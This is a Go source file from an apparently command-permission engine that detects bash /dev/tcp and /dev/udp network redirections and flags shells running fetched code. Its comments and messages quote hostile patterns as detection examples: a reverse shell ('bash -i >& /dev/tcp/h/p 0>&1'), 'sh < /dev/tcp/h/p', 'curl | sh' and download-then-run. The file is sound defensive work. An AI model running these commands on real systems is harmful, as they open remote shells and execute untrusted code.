package permission

import (
	"slices"
	"strings"
)

// Network redirections. bash opens a redirection to /dev/tcp/HOST/PORT or
// /dev/udp/HOST/PORT as a socket connected there, not as a file (its
// pattern is /dev/tcp/*/*, matched on the word as expanded, whatever the
// file system holds): cat < /dev/tcp/h/80 reads from the network as curl
// does, echo x > /dev/udp/h/53 sends as nc does. The engine judges them as
// it judges curl and nc:
//
//   - plan mode denies them, as it denies curl: no command with one is
//     read-only, nor one whose target only known at run time may be one
//     (cat < "$f");
//   - elsewhere the connection is allowed, as curl's is (the sandbox's
//     network policy decides under run), and no file is read or written:
//     it is not a write outside the project root;
//   - what comes through it is fetched data, as curl's output is: a shell
//     or interpreter reading its program from a command with one (sh <
//     /dev/tcp/h/p, bash -i >& /dev/tcp/h/p 0>&1) runs fetched code, as
//     curl | sh does, and so does a later command running a file a
//     command reading one wrote (cat < /dev/tcp/h/p > x.sh; sh x.sh), as
//     after curl -o x.sh; and exec keeping one open in the shell (exec
//     3<>/dev/tcp/h/p) is asked for, since a later command may run what
//     the shell reads through it (sh <&3).
//
// A /dev/tcp path as an argument (cat /dev/tcp/h/p) is a file name like
// any other: cat opens a file, which does not exist, and no connection.

// netRedirect reports whether bash opens redirection target w as a network
// connection: a literal word that bash's /dev/tcp/*/* or /dev/udp/*/*
// matches (a * there spans slashes and may be empty).
func netRedirect(w Word) bool {
	return w.Literal && netPath(w.Text)
}

func netPath(t string) bool {
	rest, ok := strings.CutPrefix(t, "/dev/tcp/")
	if !ok {
		rest, ok = strings.CutPrefix(t, "/dev/udp/")
	}
	return ok && strings.Contains(rest, "/")
}

// mayNetRedirect reports whether redirection target w is or may be, once
// expanded at run time, a network connection: netRedirect, or a word
// whose literal start, up to its first expansion, is one a /dev/tcp/ or
// /dev/udp/ path may begin with ("$f", "/dev/$p/h/80").
func mayNetRedirect(w Word) bool {
	if w.Literal {
		return netPath(w.Text)
	}
	t := w.Text
	i := strings.IndexAny(t, "$`")
	if i < 0 {
		return netPath(t)
	}
	pre := strings.Trim(t[:i], `"'`)
	return strings.HasPrefix("/dev/tcp/", pre) || strings.HasPrefix("/dev/udp/", pre) ||
		strings.HasPrefix(pre, "/dev/tcp/") || strings.HasPrefix(pre, "/dev/udp/")
}

// netRead returns the network connection c reads from through a
// redirection of its own (<, <>), or "".
func netRead(c SimpleCommand) string {
	for _, r := range c.Redirects {
		if r.Read && netRedirect(r.Target) {
			return r.Target.Text
		}
	}
	return ""
}

// netAny returns any network connection c has a redirection of its own
// to, or "".
func netAny(c SimpleCommand) string {
	for _, r := range c.Redirects {
		if netRedirect(r.Target) {
			return r.Target.Text
		}
	}
	return ""
}

// downloads reports whether c fetches data from the network: a
// downloader (curl, wget …), or a command reading a network redirection
// (cat < /dev/tcp/h/80).
func downloads(c SimpleCommand) bool {
	return netRead(c) != "" || slices.Contains(downloaderNames, lowerName(c))
}

// checkNetProgram: a shell or an interpreter reading its program from
// its input, with a network connection among its redirections (sh <
// /dev/tcp/h/p, bash -i >& /dev/tcp/h/p 0>&1, whose input is the
// connection too), runs what the network sends; exec keeping a
// connection open in the shell (exec 3<>/dev/tcp/h/p) lets a later
// command run it (sh <&3), and so does one redirecting a compound
// command ({ sh; } < /dev/tcp/h/p), whose commands the engine sees
// without it.
func checkNetProgram(c SimpleCommand, _ PathEnv) (string, bool) {
	conn := netAny(c)
	if conn == "" {
		return "", false
	}
	n := lowerName(c)
	if (isInterpreter(n) || n == "source" || n == ".") && readsProgramFromFeed(c) {
		return n + " reads its program from its input, with a network connection (" + conn + ") among its redirections: fetched code runs unseen, as with curl | sh", false
	}
	if n == "exec" && len(c.Args()) == 1 {
		return "exec keeps a network connection (" + conn + ") open in the shell: a later command may run what comes through it", false
	}
	if len(c.Words) == 0 {
		return "a network connection (" + conn + ") is the redirection of a group, loop or other compound command: a command inside may run what comes through it", false
	}
	return "", false
}
